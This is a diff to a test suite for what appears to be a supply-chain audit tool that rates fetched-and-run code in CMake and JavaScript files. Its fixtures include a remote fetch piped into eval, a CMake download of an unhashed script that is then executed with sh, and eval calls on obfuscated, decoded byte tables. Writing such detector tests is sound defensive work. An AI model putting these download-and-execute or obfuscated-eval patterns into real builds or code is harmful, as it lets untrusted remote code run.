@@ -155,6 +155,12 @@ describe("rules of contents", () => {
       "review",
     ],
     ["has a digest", "CMakeLists.txt", declared(`URL https://a.example.org/x.tgz URL_HASH SHA256=${"0".repeat(64)}`), "note"],
+    [
+      "has the pin of another way",
+      "CMakeLists.txt",
+      declared(`GIT_REPOSITORY https://a.example.org/x GIT_TAG main URL_HASH SHA256=${"0".repeat(64)}`),
+      "review",
+    ],
     ["is a commit", "CMakeLists.txt", declared(`GIT_REPOSITORY https://a.example.org/x GIT_TAG ${commit}`), "note"],
     ["becomes WebAssembly", "lib/a.js", "WebAssembly.instantiateStreaming(fetch('https://a.example.org/x.wasm'))\n", "note"],
     ["becomes text", "lib/a.js", "fetch('https://a.example.org/x').then((x) => x.text()).then((x) => eval(x))\n", "review"],
@@ -163,9 +169,18 @@ describe("rules of contents", () => {
     expect(findings.filter(({ rule }) => rule === "flow/fetched-runs").map((found) => found.severity)).toEqual([severity])
   })
 
+  it("a way that weighs is told beside one that is a note, to the same place", async () => {
+    const of = `file(DOWNLOAD https://a.example.org/a s.sh EXPECTED_HASH SHA256=${"0".repeat(64)})\nfile(DOWNLOAD https://a.example.org/b s.sh)\nexecute_process(COMMAND sh s.sh)\n`
+    const { findings } = await audited(sample({ "CMakeLists.txt": of }, { "CMakeLists.txt": of }))
+    expect(new Set(findings.filter(({ rule }) => rule === "flow/fetched-runs").map(({ severity }) => severity))).toEqual(
+      new Set(["note", "review"]),
+    )
+  })
+
   const table = `const t = new Uint8Array([${"1,2,".repeat(9)}3])\n`
   it.each<[string, string, string]>([
-    ["travels as it stands (fflate in three)", 'new Worker(URL.createObjectURL(new Blob(["f();" + t.toString()])))\n', "note"],
+    ["travels as it stands (fflate in three)", 'new Worker(URL.createObjectURL(new Blob(["f();" + t.toString()])))\n', "review"],
+    ["is computed with by a function", "eval(Buffer.from(t.map((x) => x + 96)).toString())\n", "review"],
     ["is computed with", "eval(String.fromCharCode(...t.map((x) => x + 96)))\n", "alarm"],
     ["is computed with elsewhere", "for (const i in t) t[i] ^= 97\neval(new TextDecoder().decode(t))\n", "alarm"],
   ])("of a table of numbers that runs, and %s", async (_, code, severity) => {
